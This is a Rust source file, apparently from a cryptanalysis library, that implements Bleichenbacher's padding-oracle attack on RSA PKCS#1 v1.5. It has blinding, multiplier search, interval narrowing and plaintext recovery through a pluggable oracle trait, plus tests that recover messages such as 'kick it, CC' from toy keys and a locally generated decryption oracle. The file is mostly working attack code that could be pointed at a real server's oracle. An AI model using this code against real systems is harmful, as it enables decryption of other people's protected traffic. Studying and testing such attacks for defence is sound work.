//! The four-phase Bleichenbacher search.
//!
//! A [`Bleichenbacher`] owns its oracle and all round state. Callers drive
//! it with [`Bleichenbacher::next_round`] (or [`Bleichenbacher::run`]) and
//! may stop between any two calls; nothing happens in the background.

use log::{debug, info};
use num_bigint::BigUint;
use num_integer::Integer;
use num_traits::{One, Zero};

use crate::bounds::{self, ModulusContext};
use crate::error::{AttackError, Budget, Result};
use crate::interval::IntervalSet;
use crate::math::inv_mod;
use crate::message::{blinding_factor, prepare, to_block};
use crate::oracles::Oracle;
use crate::padding::Pkcs1Encryption;

/// How phase 2 looks for the next multiplier while several intervals remain.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SearchStrategy {
    /// Textbook steps 2a, 2b and 2c.
    Classic,
    /// Probe up to `probe_limit` multipliers past the previous one and
    /// prefer a conforming one whose 256B window tightens the interval hull.
    /// Falls back to the first conforming probe, then to linear search.
    Windowed { probe_limit: u64 },
}

impl Default for SearchStrategy {
    fn default() -> Self {
        SearchStrategy::Classic
    }
}

#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct AttackConfig {
    /// The ciphertext is known to be PKCS conforming, so blinding is skipped.
    pub msg_is_pkcs: bool,
    pub strategy: SearchStrategy,
    pub max_queries: Option<u64>,
    pub max_rounds: Option<u64>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    Blinding,
    Searching,
    Narrowing,
    Extracting,
    Done,
}

/// Snapshot for progress reporting.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Progress {
    pub phase: Phase,
    pub round: u64,
    pub queries: u64,
    pub intervals: usize,
    pub total_width: BigUint,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Solution {
    /// Plaintext of the attacked ciphertext as an integer.
    pub value: BigUint,
    /// `value` as a modulus-sized big-endian block.
    pub block: Vec<u8>,
    pub s0: BigUint,
    pub rounds: u64,
    pub queries: u64,
}

impl Solution {
    /// Payload with the PKCS#1 v1.5 encryption padding removed.
    pub fn payload(&self) -> anyhow::Result<Vec<u8>> {
        Pkcs1Encryption::new(self.block.len()).unpad(&self.block)
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RoundOutcome {
    Blinded { s0: BigUint },
    Narrowed { round: u64, intervals: usize },
    Solved(Solution),
}

pub struct Bleichenbacher<O: Oracle> {
    oracle: O,
    ctx: ModulusContext,
    config: AttackConfig,
    ciphertext: BigUint,
    c0: BigUint,
    s0: BigUint,
    si: BigUint,
    intervals: IntervalSet,
    round: u64,
    queries: u64,
    phase: Phase,
    solution: Option<Solution>,
}

impl<O: Oracle> Bleichenbacher<O> {
    /// Validates the inputs against the oracle's public key. No query is
    /// made before the first call to `next_round`.
    pub fn new(ciphertext: &[u8], oracle: O, config: AttackConfig) -> Result<Self> {
        let ctx = ModulusContext::new(oracle.public_key())?;
        if oracle.block_size() != ctx.k() {
            return Err(AttackError::MalformedInput(format!(
                "oracle expects {} byte blocks for a {} byte modulus",
                oracle.block_size(),
                ctx.k()
            )));
        }
        if ciphertext.len() != ctx.k() {
            return Err(AttackError::MalformedInput(format!(
                "ciphertext is {} bytes, modulus is {}",
                ciphertext.len(),
                ctx.k()
            )));
        }
        let ciphertext = BigUint::from_bytes_be(ciphertext);
        if &ciphertext >= ctx.n() {
            return Err(AttackError::MalformedInput(
                "ciphertext is not reduced modulo n".to_string(),
            ));
        }

        info!("B computed: {:x}", ctx.b());
        info!("Blocksize: {} bytes", ctx.k());

        Ok(Self {
            oracle,
            c0: ciphertext.clone(),
            ciphertext,
            ctx,
            config,
            s0: BigUint::one(),
            si: BigUint::zero(),
            intervals: IntervalSet::new(),
            round: 0,
            queries: 0,
            phase: Phase::Blinding,
            solution: None,
        })
    }

    /// Runs blinding, or one search/narrow/extract round.
    pub fn next_round(&mut self) -> Result<RoundOutcome> {
        match self.phase {
            Phase::Blinding => {
                self.blind()?;
                Ok(RoundOutcome::Blinded {
                    s0: self.s0.clone(),
                })
            }
            Phase::Done => match &self.solution {
                Some(solution) => Ok(RoundOutcome::Solved(solution.clone())),
                None => Err(AttackError::InvariantViolation(
                    "finished without a solution".to_string(),
                )),
            },
            _ => self.search_round(),
        }
    }

    /// Drives the attack until the plaintext is recovered.
    pub fn run(&mut self) -> Result<Solution> {
        loop {
            if let RoundOutcome::Solved(solution) = self.next_round()? {
                return Ok(solution);
            }
        }
    }

    pub fn progress(&self) -> Progress {
        Progress {
            phase: self.phase,
            round: self.round,
            queries: self.queries,
            intervals: self.intervals.len(),
            total_width: self.intervals.total_width(),
        }
    }

    pub fn intervals(&self) -> &IntervalSet {
        &self.intervals
    }

    pub fn context(&self) -> &ModulusContext {
        &self.ctx
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    pub fn s0(&self) -> &BigUint {
        &self.s0
    }

    /// Multiplier found in the latest search step.
    pub fn si(&self) -> &BigUint {
        &self.si
    }

    fn search_round(&mut self) -> Result<RoundOutcome> {
        if let Some(limit) = self.config.max_rounds {
            if self.round >= limit {
                return Err(self.abandoned(Budget::Rounds(limit)));
            }
        }
        self.round += 1;

        self.phase = Phase::Searching;
        info!("Step 2: Searching for PKCS conforming messages.");
        self.si = self.search()?;
        info!(" Found s{}: {:x}", self.round, self.si);

        self.phase = Phase::Narrowing;
        self.narrow()?;

        self.phase = Phase::Extracting;
        match self.extract()? {
            Some(solution) => {
                self.phase = Phase::Done;
                self.solution = Some(solution.clone());
                Ok(RoundOutcome::Solved(solution))
            }
            None => {
                self.phase = Phase::Searching;
                Ok(RoundOutcome::Narrowed {
                    round: self.round,
                    intervals: self.intervals.len(),
                })
            }
        }
    }

    fn abandoned(&self, limit: Budget) -> AttackError {
        AttackError::Abandoned {
            round: self.round,
            queries: self.queries,
            limit,
        }
    }

    fn query(&mut self, s: &BigUint) -> Result<bool> {
        if let Some(limit) = self.config.max_queries {
            if self.queries >= limit {
                return Err(self.abandoned(Budget::Queries(limit)));
            }
        }
        let candidate = prepare(&self.ctx, self.oracle.is_plaintext_oracle(), &self.c0, s)?;
        self.queries += 1;
        if self.queries % 100 == 0 {
            debug!("# of queries so far: {}", self.queries);
        }
        Ok(self.oracle.check_pkcs_conformity(&candidate)?)
    }

    // Step 1
    fn blind(&mut self) -> Result<()> {
        info!("Step 1: Blinding");
        if self.config.msg_is_pkcs {
            info!("Step skipped --> Message is considered as PKCS compliant.");
            self.s0 = BigUint::one();
            self.c0 = self.ciphertext.clone();
        } else {
            let mut s = BigUint::zero();
            loop {
                s += 1u32;
                // s0 must stay invertible for the final unblinding.
                if !s.gcd(self.ctx.n()).is_one() {
                    debug!("skipping s = {:x}, it shares a factor with n", s);
                    continue;
                }
                if self.query(&s)? {
                    break;
                }
            }
            let factor = blinding_factor(&self.ctx, self.oracle.is_plaintext_oracle(), &s);
            self.c0 = (&self.ciphertext * factor) % self.ctx.n();
            info!(" Found s0 : {:x}", s);
            self.s0 = s;
        }
        self.intervals = IntervalSet::singleton(self.ctx.initial_interval());
        self.phase = Phase::Searching;
        Ok(())
    }

    // Step 2
    fn search(&mut self) -> Result<BigUint> {
        if self.round == 1 {
            info!("Step 2a: Starting the search");
            let start = bounds::step2a_start(&self.ctx);
            return self.linear_from(start);
        }
        if self.intervals.len() > 1 {
            return match self.config.strategy {
                SearchStrategy::Classic => {
                    info!("Step 2b: Searching with more than one interval left");
                    let start = &self.si + 1u32;
                    self.linear_from(start)
                }
                SearchStrategy::Windowed { probe_limit } => self.windowed(probe_limit),
            };
        }
        info!("Step 2c: Searching with one interval left");
        self.single_interval()
    }

    fn linear_from(&mut self, start: BigUint) -> Result<BigUint> {
        let mut s = start;
        while !self.query(&s)? {
            s += 1u32;
        }
        Ok(s)
    }

    fn single_interval(&mut self) -> Result<BigUint> {
        let interval = self
            .intervals
            .first()
            .cloned()
            .ok_or_else(|| AttackError::InvariantViolation("no interval to search".to_string()))?;
        let mut r = bounds::step2c_r_start(&self.ctx, &interval, &self.si);
        loop {
            if let Some(range) = bounds::step2c_s_range(&self.ctx, &interval, &r) {
                let mut s = range.lower().clone();
                while &s <= range.upper() {
                    if self.query(&s)? {
                        return Ok(s);
                    }
                    s += 1u32;
                }
            }
            r += 1u32;
        }
    }

    fn windowed(&mut self, probe_limit: u64) -> Result<BigUint> {
        info!("Step 2x: Probing {} multipliers for a tightening window", probe_limit);
        let hull = self
            .intervals
            .hull()
            .ok_or_else(|| AttackError::InvariantViolation("no interval to search".to_string()))?;
        let mut fallback = None;
        let mut s = &self.si + 1u32;
        for _ in 0..probe_limit {
            if self.query(&s)? {
                if let Some(window) = bounds::step2x_window(&self.ctx, &s, hull.lower(), hull.upper()) {
                    debug!("s = {:x} maps {} into {}", s, window, hull);
                    return Ok(s);
                }
                if fallback.is_none() {
                    fallback = Some(s.clone());
                }
            }
            s += 1u32;
        }
        if let Some(s) = fallback {
            return Ok(s);
        }
        info!("Step 2x: nothing conforming, falling back to linear search");
        self.linear_from(s)
    }

    // Step 3
    fn narrow(&mut self) -> Result<()> {
        let mut next = IntervalSet::new();
        for interval in self.intervals.iter() {
            next.extend(bounds::narrow(&self.ctx, interval, &self.si));
        }
        if next.is_empty() {
            return Err(AttackError::InvariantViolation(format!(
                "s{} = {:x} leaves no candidate interval",
                self.round, self.si
            )));
        }
        debug!(" # of intervals for M{}: {}", self.round, next.len());
        self.intervals = next;
        Ok(())
    }

    // Step 4
    fn extract(&self) -> Result<Option<Solution>> {
        if !self.intervals.is_width_one() {
            return Ok(None);
        }
        let m0 = match self.intervals.first() {
            Some(interval) => interval.lower(),
            None => return Ok(None),
        };
        let inverse = inv_mod(&self.s0, self.ctx.n())
            .map_err(|e| AttackError::InvariantViolation(format!("s0 is not invertible: {}", e)))?;
        let value = (inverse * m0) % self.ctx.n();
        let block = to_block(&value, self.ctx.k())?;
        info!("====> Solution found!\n{}", hex::encode(&block));
        info!("// Total # of queries so far: {}", self.queries);

        Ok(Some(Solution {
            value,
            block,
            s0: self.s0.clone(),
            rounds: self.round,
            queries: self.queries,
        }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::OracleError;
    use crate::oracles::{DecryptionOracle, PlaintextOracle};
    use crate::padding::Pkcs1Check;
    use crate::rsa::{RsaKey, RsaPublicKey, E3};
    use anyhow::{anyhow, Result};

    // 2^120 + 1: k = 16 and n / B just above 256, so conforming multipliers are dense.
    fn toy_key() -> RsaPublicKey {
        RsaPublicKey::new((BigUint::one() << 120) + BigUint::one(), E3.clone())
    }

    // 2^127 - 1 is prime, so any blinding multiplier is invertible.
    fn mersenne_key() -> RsaPublicKey {
        RsaPublicKey::new((BigUint::one() << 127) - BigUint::one(), E3.clone())
    }

    fn small_ciphertext() -> Vec<u8> {
        let mut ciphertext = vec![0u8; 16];
        ciphertext[15] = 0x42;
        ciphertext
    }

    fn known_conforming() -> AttackConfig {
        AttackConfig {
            msg_is_pkcs: true,
            ..AttackConfig::default()
        }
    }

    struct ScriptedOracle {
        public_key: RsaPublicKey,
        fail: bool,
        queries: u64,
    }

    impl ScriptedOracle {
        fn rejecting() -> Self {
            Self {
                public_key: toy_key(),
                fail: false,
                queries: 0,
            }
        }

        fn failing() -> Self {
            Self {
                fail: true,
                ..Self::rejecting()
            }
        }
    }

    impl Oracle for ScriptedOracle {
        fn check_pkcs_conformity(&mut self, _candidate: &[u8]) -> std::result::Result<bool, OracleError> {
            self.queries += 1;
            if self.fail {
                return Err(anyhow!("connection reset by peer").into());
            }
            Ok(false)
        }

        fn block_size(&self) -> usize {
            self.public_key.size_bytes()
        }

        fn public_key(&self) -> &dyn RsaKey {
            &self.public_key
        }

        fn query_count(&self) -> u64 {
            self.queries
        }
    }

    #[test]
    fn toy_modulus_two_byte_oracle() -> Result<()> {
        // 00 02 | seven padding bytes | 00 | "kickit"
        let plaintext = hex::decode("000211121314151617006b69636b6974")?;
        let oracle = PlaintextOracle::new(toy_key(), Pkcs1Check::LeadingBytes);
        let config = AttackConfig {
            max_queries: Some(2000),
            ..known_conforming()
        };

        let mut attack = Bleichenbacher::new(&plaintext, oracle, config)?;
        let solution = attack.run()?;

        assert_eq!(plaintext, solution.block);
        assert_eq!(BigUint::from_bytes_be(&plaintext), solution.value);
        assert_eq!(b"kickit", &solution.block[10..]);
        assert_eq!(BigUint::one(), solution.s0);
        assert!(solution.queries < 2000);
        assert_eq!(solution.queries, attack.oracle().query_count());
        Ok(())
    }

    #[test]
    fn plaintext_stays_inside_intervals() -> Result<()> {
        let plaintext = hex::decode("000211121314151617006b69636b6974")?;
        let m = BigUint::from_bytes_be(&plaintext);
        let mut oracle = PlaintextOracle::new(toy_key(), Pkcs1Check::LeadingBytes);
        let mut attack = Bleichenbacher::new(&plaintext, &mut oracle, known_conforming())?;

        assert_eq!(Phase::Blinding, attack.progress().phase);
        assert_eq!(
            RoundOutcome::Blinded {
                s0: BigUint::one()
            },
            attack.next_round()?
        );
        assert!(attack.intervals().contains(&m));
        assert_eq!(16, attack.context().k());
        assert_eq!(&BigUint::one(), attack.s0());

        let mut last_width = attack.progress().total_width;
        let mut rounds = 0;
        let solution = loop {
            rounds += 1;
            assert!(rounds < 1000, "attack did not terminate");
            match attack.next_round()? {
                RoundOutcome::Narrowed { round, intervals } => {
                    assert_eq!(rounds, round);
                    assert_eq!(intervals, attack.intervals().len());
                    assert!(attack.intervals().contains(&m), "round {} lost the plaintext", round);
                    assert!(attack.si() >= &bounds::step2a_start(attack.context()));
                    let width = attack.progress().total_width;
                    assert!(width <= last_width);
                    last_width = width;
                }
                RoundOutcome::Solved(solution) => break solution,
                RoundOutcome::Blinded { .. } => panic!("blinding ran twice"),
            }
        };

        assert_eq!(m, solution.value);
        assert!(attack.intervals().is_width_one());
        assert_eq!(Phase::Done, attack.progress().phase);
        assert_eq!(RoundOutcome::Solved(solution.clone()), attack.next_round()?);
        assert_eq!(solution.queries, attack.progress().queries);
        drop(attack);
        assert_eq!(solution.queries, oracle.query_count());
        Ok(())
    }

    #[test]
    fn strict_oracle_recovers_payload() -> Result<()> {
        // 00 02 | eight padding bytes | 00 | "hello"
        let plaintext = hex::decode("0002111213141516171800")?
            .into_iter()
            .chain(b"hello".iter().cloned())
            .collect::<Vec<u8>>();
        let oracle = PlaintextOracle::new(toy_key(), Pkcs1Check::Separator);
        let config = AttackConfig {
            max_queries: Some(5_000_000),
            ..known_conforming()
        };

        let solution = Bleichenbacher::new(&plaintext, oracle, config)?.run()?;
        assert_eq!(plaintext, solution.block);
        assert_eq!(b"hello".to_vec(), solution.payload()?);
        Ok(())
    }

    #[test]
    fn blinding_non_conforming_message() -> Result<()> {
        let message = hex::decode("00053a7c9e1f2b4d6e8f0a1c3e5f7a9b")?;
        let oracle = PlaintextOracle::new(mersenne_key(), Pkcs1Check::LeadingBytes);
        let config = AttackConfig {
            max_queries: Some(5_000_000),
            ..AttackConfig::default()
        };

        let mut attack = Bleichenbacher::new(&message, oracle, config)?;
        match attack.next_round()? {
            RoundOutcome::Blinded { s0 } => assert!(s0 > BigUint::one()),
            other => panic!("expected blinding, got {:?}", other),
        }
        let solution = attack.run()?;
        assert_eq!(BigUint::from_bytes_be(&message), solution.value);
        assert_eq!(message, solution.block);
        Ok(())
    }

    #[test]
    fn windowed_strategy_with_several_intervals() -> Result<()> {
        // 00 02 | eight padding bytes | 00 | "hello"
        let plaintext = hex::decode("0002111213141516171800")?
            .into_iter()
            .chain(b"hello".iter().cloned())
            .collect::<Vec<u8>>();
        let oracle = PlaintextOracle::new(toy_key(), Pkcs1Check::Separator);
        let config = AttackConfig {
            strategy: SearchStrategy::Windowed { probe_limit: 50 },
            max_queries: Some(5_000_000),
            ..known_conforming()
        };

        let mut attack = Bleichenbacher::new(&plaintext, oracle, config)?;
        attack.next_round()?;
        let mut most_intervals = 0;
        let solution = loop {
            match attack.next_round()? {
                RoundOutcome::Narrowed { intervals, .. } => {
                    most_intervals = most_intervals.max(intervals);
                }
                RoundOutcome::Solved(solution) => break solution,
                RoundOutcome::Blinded { .. } => panic!("blinding ran twice"),
            }
        };

        // a separator oracle leaves a wide multiplier after step 2a
        assert!(most_intervals > 1, "search never saw more than one interval");
        assert_eq!(plaintext, solution.block);
        assert_eq!(b"hello".to_vec(), solution.payload()?);
        Ok(())
    }

    // Plaintext oracle accepting every candidate of at least `threshold`.
    struct ThresholdOracle {
        public_key: RsaPublicKey,
        threshold: BigUint,
        queries: u64,
    }

    impl Oracle for ThresholdOracle {
        fn check_pkcs_conformity(&mut self, candidate: &[u8]) -> std::result::Result<bool, OracleError> {
            self.queries += 1;
            Ok(BigUint::from_bytes_be(candidate) >= self.threshold)
        }

        fn block_size(&self) -> usize {
            self.public_key.size_bytes()
        }

        fn public_key(&self) -> &dyn RsaKey {
            &self.public_key
        }

        fn is_plaintext_oracle(&self) -> bool {
            true
        }

        fn query_count(&self) -> u64 {
            self.queries
        }
    }

    #[test]
    fn blinding_skips_multipliers_sharing_a_factor() -> Result<()> {
        // 97 divides 2^120 + 1, and no smaller prime does
        let oracle = ThresholdOracle {
            public_key: toy_key(),
            threshold: 97u32.into(),
            queries: 0,
        };
        let mut one = vec![0u8; 16];
        one[15] = 1;

        let mut attack = Bleichenbacher::new(&one, oracle, AttackConfig::default())?;
        assert_eq!(
            RoundOutcome::Blinded {
                s0: 98u32.into()
            },
            attack.next_round()?
        );
        assert_eq!(&BigUint::from(98u32), attack.s0());
        assert!(inv_mod(attack.s0(), attack.context().n()).is_ok());
        // s = 1 ..= 96 and 98
        assert_eq!(97, attack.oracle().query_count());
        Ok(())
    }

    #[test]
    fn decryption_oracle_end_to_end() -> Result<()> {
        let oracle = DecryptionOracle::generate(256, &E3, Pkcs1Check::LeadingBytes)?;
        let ciphertext = oracle.encrypt(b"kick it, CC")?;

        let solution = Bleichenbacher::new(&ciphertext, oracle, known_conforming())?.run()?;
        assert_eq!(b"kick it, CC".to_vec(), solution.payload()?);
        Ok(())
    }

    #[test]
    fn rejecting_oracle_exhausts_budget() -> Result<()> {
        let mut oracle = ScriptedOracle::rejecting();
        let config = AttackConfig {
            max_queries: Some(500),
            ..AttackConfig::default()
        };

        let mut attack = Bleichenbacher::new(&small_ciphertext(), &mut oracle, config)?;
        match attack.run() {
            Err(AttackError::Abandoned {
                round,
                queries,
                limit,
            }) => {
                assert_eq!(0, round);
                assert_eq!(500, queries);
                assert_eq!(Budget::Queries(500), limit);
            }
            other => panic!("expected abandonment, got {:?}", other),
        }
        assert_eq!(Phase::Blinding, attack.progress().phase);
        drop(attack);
        assert_eq!(500, oracle.query_count());
        Ok(())
    }

    #[test]
    fn round_budget() -> Result<()> {
        let plaintext = hex::decode("000211121314151617006b69636b6974")?;
        let oracle = PlaintextOracle::new(toy_key(), Pkcs1Check::LeadingBytes);
        let config = AttackConfig {
            max_rounds: Some(3),
            ..known_conforming()
        };

        let mut attack = Bleichenbacher::new(&plaintext, oracle, config)?;
        assert!(matches!(
            attack.run(),
            Err(AttackError::Abandoned {
                round: 3,
                limit: Budget::Rounds(3),
                ..
            })
        ));
        Ok(())
    }

    #[test]
    fn oracle_failure_is_fatal() -> Result<()> {
        let mut attack = Bleichenbacher::new(
            &small_ciphertext(),
            ScriptedOracle::failing(),
            AttackConfig::default(),
        )?;
        assert!(matches!(
            attack.next_round(),
            Err(AttackError::Oracle(OracleError::Backend(_)))
        ));
        assert_eq!(1, attack.oracle().query_count());
        Ok(())
    }

    #[test]
    fn malformed_ciphertext_rejected() {
        let mut oracle = ScriptedOracle::rejecting();
        for bad in [vec![0x42; 15], vec![0x42; 17], vec![0xff; 16]].iter() {
            let result = Bleichenbacher::new(bad, &mut oracle, AttackConfig::default());
            assert!(matches!(result, Err(AttackError::MalformedInput(_))));
        }
        assert_eq!(0, oracle.query_count());
    }
}
